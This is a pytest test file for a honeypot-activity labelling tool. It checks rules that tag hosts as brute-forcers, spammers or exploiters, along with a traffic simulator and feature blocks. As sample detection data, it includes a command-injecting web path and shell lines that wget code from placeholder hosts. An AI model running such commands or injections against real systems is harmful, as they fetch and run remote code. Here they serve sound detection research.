"""Honeypot-activity labels (ground-truth source iv), the simulator's honeypot events and the application features."""

from __future__ import annotations

import datetime as dt

import numpy as np
import pyarrow as pa
import pytest

from darkstack import skips
from darkstack.cli import main
from darkstack.errors import ConfigError
from darkstack.labels import build_labels, labels_for_day
from darkstack.labels.activity import ACTIVITY_SOURCE, DEFAULT_RULES, ActivityRules, classify
from darkstack.pipeline.config import config_from_dict
from darkstack.schema import EVENT_SCHEMA, conform, int_to_ip, ip_to_int
from darkstack.store import read_events, write_events, write_records
from darkstack.workspace import Workspace

DAY = dt.date(2021, 12, 1)
NEXT = DAY + dt.timedelta(days=1)
TS = pa.timestamp("us", tz="UTC")


def events(rows: list[tuple], day=DAY) -> pa.Table:
    """Event rows (src, event, service[, detail]) a second apart on ``day``, in the event schema."""
    start = int(dt.datetime(day.year, day.month, day.day, tzinfo=dt.UTC).timestamp() * 1e6)
    src = [r[0] for r in rows]
    return conform(pa.table({
        "ts": pa.array(start + np.arange(len(rows), dtype=np.int64) * 1_000_000).cast(TS),
        "sensor": pa.array(["hp"] * len(rows)), "src_ip": pa.array(ip_to_int(src), pa.uint32()),
        "event": pa.array([r[1] for r in rows]), "service": pa.array([r[2] for r in rows]),
        "detail": pa.array([r[3] if len(r) > 3 else None for r in rows], pa.string()),
        "username": pa.array([f"u{i % 3}" for i in range(len(rows))]),
        "password": pa.array([f"p{i}" for i in range(len(rows))]),
        "session": pa.array([f"{r[0]}-{i // 4}" for i, r in enumerate(rows)]),
        "bytes": pa.array(np.full(len(rows), 100), pa.uint32()),
    }), EVENT_SCHEMA)


def store(ws: Workspace, table: pa.Table, sensor="hp", part="t") -> None:
    """The events and one session row per event (so the hosts are active that day) of a honeypot sensor."""
    sessions = table.select(["ts", "src_ip"]).append_column("dst_ip", pa.array(np.full(table.num_rows, 1), pa.uint32()))
    sessions = sessions.append_column("proto", pa.array(np.full(table.num_rows, 6), pa.uint8()))
    write_records(ws, sensor, "honeypot", sessions, part=part)
    write_events(ws, sensor, table, part=part)


def labels(ws: Workspace, day=DAY) -> dict[str, tuple[str, str]]:
    return {str(int_to_ip([r["ip"]])[0]): (r["label"], r["source"]) for r in labels_for_day(ws, day).to_pylist()}


def named(table: pa.Table) -> dict[str, str]:
    return dict(zip(int_to_ip(table.column("ip").to_numpy()).tolist(), table.column("label").to_pylist()))


RULES = ActivityRules.load()


def test_thresholds_services_and_each_exploit_criterion():
    rows = [("1.0.0.1", "login_failed", "ssh")] * 10 + [("1.0.0.2", "login_failed", "ssh")] * 9
    rows += [("1.0.0.3", "login_failed", "http")] * 30  # not a login service of the rules
    rows += [("1.0.0.4", "mail", "smtp")] * 5 + [("1.0.0.5", "mail", "smtp")] * 4 + [("1.0.0.6", "mail", "imap")] * 9
    rows += [("1.0.0.7", "exploit", "http"), ("1.0.0.8", "download", "ssh"), ("1.0.0.9", "upload", "smb")]
    rows += [("1.0.0.10", "web_request", "http", "/cgi-bin/;wget http://x/y"),
             ("1.0.0.11", "web_request", "http", "/index.html"),
             ("1.0.0.12", "alert", None, "ET EXPLOIT Possible CVE-2021-44228"),
             ("1.0.0.13", "alert", None, "ET SCAN Nmap"),
             ("1.0.0.14", "login_success", "ssh"), ("1.0.0.14", "command", "ssh", "cd /tmp; wget http://a/b"),
             ("1.0.0.15", "login_success", "ssh"), ("1.0.0.15", "command", "ssh", "uname -a"),
             ("1.0.0.15", "command", "ssh", "/bin/busybox ECCHI"),
             ("1.0.0.16", "command", "telnet", "wget http://a/b"), ("1.0.0.16", "login_success", "telnet")]
    got = named(classify(events(rows), RULES))
    assert got == {"1.0.0.1": "bruteforcer", "1.0.0.4": "spammer", "1.0.0.7": "exploiter", "1.0.0.8": "exploiter",
                   "1.0.0.9": "exploiter", "1.0.0.10": "exploiter", "1.0.0.12": "exploiter", "1.0.0.14": "exploiter"}


def test_precedence_from_the_file_and_a_threshold_of_zero_turns_a_rule_off(tmp_path):
    rows = ([("2.0.0.1", "login_failed", "ssh")] * 12 + [("2.0.0.1", "download", "ssh")]
            + [("2.0.0.2", "login_failed", "pop3")] * 12 + [("2.0.0.2", "mail", "smtp")] * 6)
    assert named(classify(events(rows), RULES)) == {"2.0.0.1": "exploiter", "2.0.0.2": "spammer"}
    custom = tmp_path / "rules.toml"
    custom.write_text('precedence = ["bruteforcer", "spammer", "exploiter"]\n[exploiter]\nmin_downloads = 0\n')
    rules = ActivityRules.load(custom)
    assert rules.exploiter.min_exploits == 1 and rules.exploiter.command_patterns == RULES.exploiter.command_patterns
    assert named(classify(events(rows), rules)) == {"2.0.0.1": "bruteforcer", "2.0.0.2": "bruteforcer"}
    custom.write_text('[bruteforcer]\nmin_failed_logins = 0\n[exploiter]\nmin_downloads = 0\n')
    assert named(classify(events(rows), ActivityRules.load(custom))) == {"2.0.0.2": "spammer"}


def test_labels_per_day_lists_and_mirai_first_and_sensors_merged(tmp_path):
    ws = Workspace(tmp_path / "ws")
    store(ws, events([("3.0.0.1", "login_failed", "ssh")] * 6 + [("3.0.0.2", "login_failed", "ssh")] * 10
                     + [("3.0.0.3", "exploit", "http"), ("3.0.0.4", "mail", "smtp")]))
    store(ws, events([("3.0.0.1", "login_failed", "ssh")] * 6 + [("3.0.0.3", "login_failed", "ssh")] * 10, NEXT),
          part="n")
    store(ws, events([("3.0.0.2", "exploit", "http")] + [("3.0.0.4", "mail", "smtp")] * 5), sensor="web", part="w")
    lists = tmp_path / "lists.csv"
    lists.write_text("ip,label\n3.0.0.0/24,censys\n")
    summary = build_labels(ws, [], mirai_rule=False, activity_rules=True)
    # 6 + 6 failures on two days make no brute-forcer; a host labelled on one sensor and day only
    assert labels(ws) == {"3.0.0.2": ("exploiter", ACTIVITY_SOURCE), "3.0.0.3": ("exploiter", ACTIVITY_SOURCE),
                          "3.0.0.4": ("spammer", ACTIVITY_SOURCE)}
    assert labels(ws, NEXT) == {"3.0.0.3": ("bruteforcer", ACTIVITY_SOURCE)}
    assert summary["activity"]["days"]["2021-12-01"]["sensors"] == {"hp": {"bruteforcer": 1, "exploiter": 1},
                                                                    "web": {"exploiter": 1, "spammer": 1}}
    summary = build_labels(ws, [lists], mirai_rule=False, activity_rules=True)
    assert set(labels(ws).values()) == {("censys", "lists")} and summary["activity"]["overridden"] == 4
    assert main(["labels", "-w", str(ws.root), "--no-mirai", "--activity-rules"]) == 0


def test_the_mirai_fingerprint_wins_over_the_activity_rules(tmp_path):
    ws = Workspace(tmp_path / "ws")
    store(ws, events([("8.0.0.1", "login_failed", "telnet")] * 10 + [("8.0.0.2", "login_failed", "telnet")] * 10))
    start = int(dt.datetime(DAY.year, DAY.month, DAY.day, tzinfo=dt.UTC).timestamp() * 1e6)
    dst = ip_to_int(["10.0.0.9"])
    write_records(ws, "dark", "darknet", pa.table({
        "ts": pa.array([start], pa.int64()).cast(TS), "src_ip": pa.array(ip_to_int(["8.0.0.1"]), pa.uint32()),
        "dst_ip": pa.array(dst, pa.uint32()), "proto": pa.array([6], pa.uint8()), "tcp_flags": pa.array([2], pa.uint8()),
        "tcp_seq": pa.array(dst, pa.uint32())}), part="d")
    summary = build_labels(ws, [], activity_rules=True)
    assert labels(ws) == {"8.0.0.1": ("mirai", "mirai-rule"), "8.0.0.2": ("bruteforcer", ACTIVITY_SOURCE)}
    assert summary["activity"]["overridden"] == 1


def test_a_honeypot_without_events_is_skipped_with_a_reason(tmp_path):
    ws = Workspace(tmp_path / "ws")
    store(ws, events([("4.0.0.1", "login_failed", "ssh")] * 10))
    write_records(ws, "mhn", "honeypot", pa.table({"ts": pa.array([0], pa.int64()).cast(TS),
                                                   "src_ip": pa.array([5], pa.uint32()), "dst_ip": pa.array([1], pa.uint32()),
                                                   "proto": pa.array([6], pa.uint8())}), part="m")
    with skips.collect() as found:
        summary = build_labels(ws, [], mirai_rule=False, activity_rules=True)
    assert [s.where for s in found] == ["sensor mhn"] and "application events" in found[0].reason
    assert summary["activity_skips"][0]["option"] == "--activity-rules / labels.activity_rules"


@pytest.mark.parametrize(("text", "problem"), [
    ("[bruteforcer]\nmin_failed_logins = -1\n", "bruteforcer.min_failed_logins: Input should be greater than or equal to 0"),
    ("[bruteforcer]\nmin_failed_logins = '10'\n", "bruteforcer.min_failed_logins: Input should be a valid integer"),
    ("[spammer]\nmin_mail = 3\n", "spammer.min_mail: unknown key"),
    ('precedence = ["exploiter", "spammer"]\n', "precedence: must list bruteforcer, spammer, exploiter once each"),
    ("[exploiter]\nweb_patterns = ['(?<=x)y']\n", "exploiter.web_patterns: bad regular expression '(?<=x)y'"),
    ("[exploiter\n", "activity rules are not valid TOML"),
])
def test_a_bad_rules_file_is_one_line_naming_it(tmp_path, capsys, text, problem):
    bad = tmp_path / "bad.toml"
    bad.write_text(text)
    with pytest.raises(ConfigError) as exc:
        ActivityRules.load(bad)
    assert exc.value.line().startswith(f"{bad}: ") and problem in exc.value.line()
    ws = Workspace(tmp_path / "ws")
    store(ws, events([("4.0.0.1", "login_failed", "ssh")] * 10))
    assert main(["labels", "-w", str(ws.root), "--activity-rules-file", str(bad)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and str(bad) in err[0] and "Traceback" not in err[0]
    assert not ws.labels_table.exists()


def test_cli_and_pipeline_key(tmp_path, capsys):
    ws = Workspace(tmp_path / "ws")
    store(ws, events([("4.0.0.1", "login_failed", "ssh")] * 10 + [("4.0.0.2", "exploit", "http")]))
    assert main(["labels", "-w", str(ws.root), "--no-mirai", "--activity-rules"]) == 0
    captured = capsys.readouterr()
    out = " ".join((captured.out + captured.err).split())
    assert "activity rules: 1 bruteforcer, 0 spammer, 1 exploiter host-days" in out
    assert main(["labels", "-w", str(ws.root), "--no-mirai", "--activity-rules-file", str(DEFAULT_RULES)]) == 0
    assert main(["labels", "-w", str(ws.root), "--no-mirai"]) == 2  # nothing to build from
    assert config_from_dict({}).labels.activity_rules is False
    assert config_from_dict({"labels": {"activity_rules": True}}).labels.activity_rules is True
    config = config_from_dict({"labels": {"activity_rules": "mine.toml"}}).resolve_paths(tmp_path)
    assert config.labels.activity_rules == tmp_path / "mine.toml"


def test_real_cowrie_days(tmp_path, real_data):
    from darkstack.ingest import ingest

    ws = Workspace(tmp_path / "ws")
    ingest(ws, sorted((real_data / "cowrie").iterdir()), "cowrie")
    summary = build_labels(ws, [], mirai_rule=False, activity_rules=True)
    kept = {day: info["kept"] for day, info in summary["activity"]["days"].items()}
    assert len(kept) == 7 and kept["2018-05-20"] == {"bruteforcer": 10, "exploiter": 1}
    assert sum(k.get("bruteforcer", 0) for k in kept.values()) == 40
    assert sum(k.get("exploiter", 0) for k in kept.values()) == 6
    tpot = Workspace(tmp_path / "tpot")
    ingest(tpot, [real_data / "tpot" / "cowrie.json.2022-06-01"], "cowrie")
    summary = build_labels(tpot, [], mirai_rule=False, activity_rules=True)
    assert summary["activity"]["days"]["2022-06-01"]["kept"] == {"exploiter": 60}


# --- the simulator's honeypot events ------------------------------------------------------------------


@pytest.fixture(scope="module")
def tiny_world(tmp_path_factory) -> Workspace:
    from darkstack.simulate import simulate

    ws = Workspace(tmp_path_factory.mktemp("tiny") / "ws")
    simulate(ws, "demo", days=2, start=DAY, seed=3, scale=0.3)
    return ws


def test_simulated_events_match_the_sessions_and_the_truth(tiny_world):
    from darkstack.simulate.measure import activity_scores
    from darkstack.store import read_day

    for day in tiny_world.store_days("honeypot"):
        ev = read_events(tiny_world, "honeypot", day)
        sessions = read_day(tiny_world, "honeypot", day, columns=["src_ip", "event"])
        kinds = ev.column("event").to_numpy(zero_copy_only=False)
        assert (kinds == "connect").sum() == sessions.num_rows
        assert set(kinds) <= {"connect", "login_failed", "login_success", "command", "mail", "exploit", "download",
                              "web_request", "other"}
        success = sessions.column("event").to_numpy(zero_copy_only=False)
        assert (kinds == "login_success").sum() == np.isin(success, ["cowrie.login.success", "cowrie.command.input"]).sum()
    build_labels(tiny_world, [], activity_rules=True)
    scores = activity_scores(tiny_world).set_index("class")
    assert (scores["precision"] > 0.85).all() and (scores["recall"] > 0.85).all(), scores


def test_simulated_events_are_deterministic_and_leave_the_sessions_alone(tiny_world):
    from darkstack.simulate.events import honeypot_events
    from darkstack.simulate.profiles import build_profile
    from darkstack.simulate.traffic import honeypot_day
    from darkstack.simulate.world import build_world

    world = build_world(build_profile("demo", 0.3), 3, DAY, 2)
    sessions = honeypot_day(world, 0)
    first = honeypot_events(world, 0, sessions)
    assert first.equals(honeypot_events(world, 0, sessions))
    assert honeypot_day(world, 0).equals(sessions)
    stored = read_events(tiny_world, "honeypot", DAY)
    assert all(first.column(f.name).equals(stored.column(f.name)) for f in EVENT_SCHEMA if f.name != "sensor")


# --- honeypot application features --------------------------------------------------------------------


def test_app_feature_counts_and_block():
    from darkstack.stack.app_features import APP_FEATURES, app_feature_counts

    table = events([("6.0.0.1", "connect", "ssh"), ("6.0.0.1", "login_failed", "ssh"), ("6.0.0.1", "login_failed", "ssh"),
                    ("6.0.0.1", "login_success", "ssh"), ("6.0.0.1", "command", "ssh", "ls"),
                    ("6.0.0.1", "download", "ssh"), ("6.0.0.2", "connect", "http"), ("6.0.0.2", "exploit", "http")])
    counts = app_feature_counts(table.to_pandas())
    one = counts.loc[ip_to_int(["6.0.0.1"])[0]].to_dict()
    assert one == {"sessions": 2, "failed_logins": 2, "successful_logins": 1, "usernames": 3, "passwords": 3,
                   "commands": 1, "downloads": 1, "services": 1, "payload_bytes": 600}
    assert list(counts.columns) == list(APP_FEATURES)
    assert counts.loc[ip_to_int(["6.0.0.2"])[0], "failed_logins"] == 0


def test_app_features_block_is_appended_to_the_honeypot_ds_base_only_when_on(tmp_path):
    from darkstack.embed.output import write_embeddings
    from darkstack.stack.app_features import APP_FEATURES
    from darkstack.stack.bases import Base, Scenario, load_day
    from darkstack.stack.settings import StackSettings

    ws = Workspace(tmp_path / "ws")
    hosts = [f"7.0.0.{i}" for i in range(1, 5)]
    store(ws, events([(hosts[0], "login_failed", "ssh")] * 3 + [(hosts[1], "exploit", "http")]))
    ips = ip_to_int(hosts)
    rng = np.random.default_rng(0)
    for variant, dim in (("ds", 37), ("idarkvec", 8)):
        write_embeddings(ws, "hp", variant, DAY, ips, rng.random((4, dim), dtype=np.float32))
    build_labels(ws, [], mirai_rule=False, activity_rules=True)
    scenario = Scenario("H", (Base("hp", "ds"), Base("hp", "idarkvec")), {"ML": (0, 1)})
    assert StackSettings().app_features is False
    off = load_day(ws, scenario, DAY, StackSettings())
    on = load_day(ws, scenario, DAY, StackSettings(app_features=True))
    assert [x.shape[1] for x in off.embeddings] == [37, 8]
    assert [x.shape[1] for x in on.embeddings] == [37 + len(APP_FEATURES), 8]
    failed = on.embeddings[0][:, 37 + APP_FEATURES.index("failed_logins")]
    assert failed[0] > 0 and np.allclose(failed[1:], failed[1])  # only the brute-forcing host stands out
    assert np.allclose(on.embeddings[0][:, :37], off.embeddings[0])
